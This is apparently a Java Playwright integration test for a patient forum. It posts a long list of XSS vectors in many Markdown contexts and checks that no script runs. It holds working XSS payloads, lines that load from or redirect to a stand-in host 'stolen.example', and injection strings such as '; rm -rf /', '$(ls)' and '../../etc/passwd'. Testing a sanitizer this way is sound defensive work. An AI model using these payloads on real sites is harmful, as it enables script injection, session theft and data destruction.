package org.patientforum.journeys;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.patientforum.pages.Community;
import org.patientforum.pages.DiscussionPage;
import org.patientforum.pages.Names;
import org.patientforum.pages.Person;
import org.patientforum.pages.Story;
import org.patientforum.running.Browser;
import org.patientforum.running.RunningForum;

/**
 * XSS vectors in a real browser: each vector in each context of Markdown and pages, several in one post. No script may run or be blocked by the content security
 * policy, and the text box shows the text as typed.
 */
class AttackTextsIT {

    @RegisterExtension
    static final RunningForum forum = RunningForum.shared();

    @RegisterExtension
    static final Browser browser = new Browser();

    @RegisterExtension
    static final Community community = new Community(forum, browser);

    /** Vectors. Each would set window.ran or request a URL that contains "stolen". */
    private static final List<String> VECTORS = List.of(
            "<script>ran=1</script>",
            "<ScRiPt >ran=1</sCrIpT >",
            "<script/src=//stolen.example/x.js></script>",
            "<img src=x onerror=ran=1>",
            "<img/src='x'/onerror='ran=1'//",
            "<svg/onload=ran=1>",
            "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:ran=1><text y=20>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src onerror=ran=1>",
            "<details open ontoggle=ran=1>",
            "<input autofocus onfocus=ran=1>",
            "<iframe srcdoc='<script>parent.ran=1</script>'>",
            "<iframe src=javascript:parent.ran=1>",
            "<object data=javascript:ran=1><embed src=javascript:ran=1>",
            "<form action=//stolen.example><button>x</button>",
            "<meta http-equiv=refresh content='0;url=//stolen.example'>",
            "<base href=//stolen.example/>",
            "<link rel=stylesheet href=//stolen.example/x.css>",
            "<style>@import '//stolen.example/x.css';</style>",
            "<p style=background:url(//stolen.example/x)>x",
            "<body onpageshow=ran=1>",
            "<video><source onerror=ran=1></video>",
            "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
            "<template><img src=x onerror=ran=1></template>",
            "<!--><img src=x onerror=ran=1>-->",
            "<![CDATA[><img src=x onerror=ran=1>]]>",
            "\"><img src=x onerror=ran=1>",
            "'-(ran=1)-'",
            "\" onmouseover=ran=1 x=\"",
            "</textarea></title><img src=x onerror=ran=1>",
            "&lt;img src=x onerror=ran=1&gt;",
            "&#60;img src=x onerror=ran=1&#62;",
            "\uff1cimg src=x onerror=ran=1\uff1e",
            "#{facesContext.externalContext.redirect('//stolen.example')}",
            "![x](//stolen.example/x.png)",
            "javascript:ran=1",
            "JaVaScRiPt:ran=1//",
            "javascript&colon;ran=1",
            "&#106;avascript:ran=1",
            "java\tscript:ran=1",
            "\u0001javascript:ran=1",
            "javascript:/*--></title></style></textarea></script><svg/onload='ran=1'>*/",
            "data:text/html,<script>parent.ran=1</script>",
            "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
            "vbscript:ran=1",
            "feed:javascript:ran=1",
            "view-source:javascript:ran=1",
            "blob:javascript:ran=1",
            "//stolen.example\\@forum/javascript:ran=1",
            "https://x.example/\"onmouseover=ran=1//",
            "https://x.example/'><img src=x onerror=ran=1>",
            "mailto:a@x.example?subject=\"><img src=x onerror=ran=1>",
            "tel:1\" onfocus=ran=1 autofocus x=\"");

    /** Contexts; %s is the vector. */
    private static final List<String> CONTEXTS = List.of(
            "%s",
            "**%s** and _%s_",
            "[x](%s)",
            "[x](<%s>)",
            "[%s](https://x.example \"%s\")",
            "<%s>",
            "`%s` ~~%s~~",
            "> - # %s",
            "| a | b |\n|---|---|\n| %s | [x](%s) |",
            "```%s\n%s\n```",
            "[x]: %s\n\n[x]");

    /** Maximum number of characters of a post, less the space for one more text. */
    private static final int MAX_LENGTH = 18_500;

    /** Strings that have broken other programs, without characters that the forum removes. */
    private static final String NAUGHTY = String.join(
            "\n\n",
            "undefined null NULL None NaN Infinity -0 1e1000 0x0 \\N true hasOwnProperty __proto__",
            "' OR 1=1; -- \\' \\\\ \\\" %s%n%x %d {0} ${1} $(ls) `ls` ; rm -rf /",
            "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\ufeff\u00ad\u2060\u180e",
            "Z\u0351\u036b\u0343\u0342\u0311a\u0334l\u0489g\u0361o \u0628\u0651\u064e \u0e01\u0e34\u0e48",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddec\ud83c\udde7 \ud83d\udc4b\ud83c\udfff \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc73\udb40\udc63\udb40\udc74\udb40\udc7f",
            "\ufdfd \u0600 \ufff9x\ufffb \ufffd \u2400 \ud800\udf00 \ud83e\udef6 \u3000\u00a0\u2003x",
            "\u4e2d\u6587 \u0639\u0631\u0628\u064a \u05e2\u05d1\u05e8\u05d9\u05ea \u0939\u093f\u0928\u094d\u0926\u0940 \u00df\u0130\u0131\u01c5\ufb03 \u212b\u00c5A\u030a",
            "&amp; &#65; &nbsp; %00 %0d%0a \\u0000 <hugs> -- /* */ // {{7*7}} #{7*7} <%= 7*7 %>",
            "CON PRN AUX .. ../../etc/passwd C:\\x file:///x http://[::1]/ //x",
            "1/2 \u00bd \u0661\u0662 \uff11\uff12 0.1e-7 1,000.00 +44 (0)20 1_000");

    private final List<String> requested = new ArrayList<>();

    /** Each vector in each context, a few in each post. */
    private static List<String> posts() {
        List<String> posts = new ArrayList<>();
        StringBuilder post = new StringBuilder();
        for (String vector : VECTORS) {
            for (String context : CONTEXTS) {
                String text = context.replace("%s", vector);
                if (post.length() + text.length() > MAX_LENGTH) {
                    posts.add(post.toString().strip());
                    post.setLength(0);
                }
                post.append(text).append("\n\n");
            }
        }
        posts.add(post.toString().strip());
        return posts;
    }

    /** A window that records scripts that ran or were blocked. */
    private Page openWatched(Person person) {
        Page page = community.window(person);
        page.addInitScript(
                "window.tried = []; document.addEventListener('securitypolicyviolation',"
                        + " event => window.tried.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));");
        page.onDialog(dialog -> {
            requested.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        page.onRequest(request -> {
            if (request.url().contains("stolen")) {
                requested.add(request.url());
            }
        });
        return page;
    }

    private void assertNothingRan(Page page) {
        page.locator("main").waitFor();
        assertThat(page.evaluate("[typeof window.ran, window.tried.join('; ')].join(' ')"))
                .as(page.url())
                .isEqualTo("undefined ");
        assertThat(requested).isEmpty();
        assertThat(page.evaluate("""
                () => [...document.querySelectorAll('.posts *, #preview *')].flatMap(element => [...element.attributes]
                        .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc'
                            || ['href', 'src', 'action', 'xlink:href', 'formaction', 'data'].includes(a.name)
                                && !/^(https?:|mailto:|tel:|[/?#])/.test(a.value))
                        .map(a => element.tagName + ' ' + a.name + '=' + a.value)).join('\\n')"""))
                .as("event handlers and script URLs on " + page.url())
                .isEqualTo("");
    }

    @Test
    void noVectorRunsAndTextBoxShowsText() {
        List<String> posts = posts();
        assertThat(VECTORS.size() * CONTEXTS.size()).isGreaterThanOrEqualTo(300);
        Person writer = community.member("Speedwell");
        Page page = openWatched(writer);
        long group = community.group("Attacks " + System.nanoTime());
        Story.Opening opening = new Story.Opening("T " + VECTORS.get(3), posts.getFirst(), DiscussionPage.NOW);
        DiscussionPage shown = DiscussionPage.start(page, forum, group, opening);
        long id = shown.id();
        assertNothingRan(page);
        posts.subList(1, posts.size()).forEach(text -> shown.reply(text, null));
        shown.reply(NAUGHTY, null);
        assertNothingRan(page);
        List<String> typed = new ArrayList<>(posts);
        typed.add(NAUGHTY);
        for (int number : List.of(1, typed.size())) {
            page.navigate(forum.url("/discussions/" + id));
            String edit = shown.post(number).locator("a[href*='/edit-post/']").getAttribute("href");
            page.navigate(forum.url(edit));
            assertThat(page.locator("#text").inputValue()).isEqualTo(withoutControlCharacters(typed.get(number - 1)));
            page.getByRole(AriaRole.BUTTON, Names.button("Preview")).click();
            page.locator("#preview").waitFor();
            assertThat(page.locator("#text").inputValue()).isEqualTo(withoutControlCharacters(typed.get(number - 1)));
            assertNothingRan(page);
        }
    }

    /** Only control characters are removed. */
    private static String withoutControlCharacters(String typed) {
        return typed.replace("\u0001", "");
    }

    /** Ensures that the watched window detects scripts. */
    @Test
    void watchedWindowDetectsScripts() {
        Page page = openWatched(community.member("Speedwell"));
        page.navigate(forum.url("/"));
        assertNothingRan(page);
        page.evaluate("document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=/x onerror=ran=1>')");
        page.waitForFunction("window.tried.length > 0");
        assertThat((String) page.evaluate("window.tried.join()")).contains("script-src");
    }
}
